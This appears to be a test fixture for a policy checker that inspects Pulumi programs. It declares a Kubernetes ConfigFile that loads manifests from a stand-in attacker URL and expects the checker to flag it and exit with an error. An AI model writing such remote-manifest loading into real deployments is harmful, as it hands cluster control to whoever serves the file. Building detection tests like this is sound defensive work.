"""A YAML file read by the provider at deploy time (kubernetes:yaml/v2:ConfigFile)."""
# expect-exit: 1
# expect-rules: resource-judgeable-offline, resource-type-allowed
import pulumi_kubernetes as k8s

k8s.yaml.v2.ConfigFile("manifests", file="https://attacker.example/all.yaml")
